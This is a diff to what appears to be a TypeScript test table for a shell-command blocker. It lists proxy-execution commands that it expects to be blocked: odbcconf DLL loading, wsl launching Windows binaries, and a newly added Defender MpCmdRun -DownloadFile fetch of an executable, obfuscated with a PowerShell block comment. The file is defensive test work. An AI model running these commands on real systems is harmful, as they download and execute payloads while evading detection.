@@ -28,6 +28,12 @@ const blocked: Array<[string, Shell, string]> = [
   ['odbcconf.exe /S /A {installdriver "x|Driver=C:\\Users\\Public\\d.dll"}', 'powershell', 'proxy.odbcconf'],
   ["powershell -c 'odbcconf.exe /a {REGSVR C:\\Users\\Public\\p.dll}'", 'powershell', 'proxy.odbcconf'],
   ["iex 'odbcconf /a {REGSVR C:\\t\\x.dll}'", 'powershell', 'proxy.odbcconf'],
+  // A block comment between the call operator and a quoted path does not make the path a string statement.
+  [
+    '& <#x#> "C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -DownloadFile -url https://f.example.org/p.exe -path C:\\t\\p.exe',
+    'powershell',
+    'proxy.mpcmdrun.download',
+  ],
   ['wsl -e /mnt/c/Users/Public/.cache/agent', 'cmd', 'proxy.wsl.windows-program'],
   ['wsl.exe -d Ubuntu -u root --exec /mnt/c/Windows/System32/calc.exe', 'powershell', 'proxy.wsl.windows-program'],
   ['wsl /mnt/d/tools/run.sh', 'cmd', 'proxy.wsl.windows-program'],
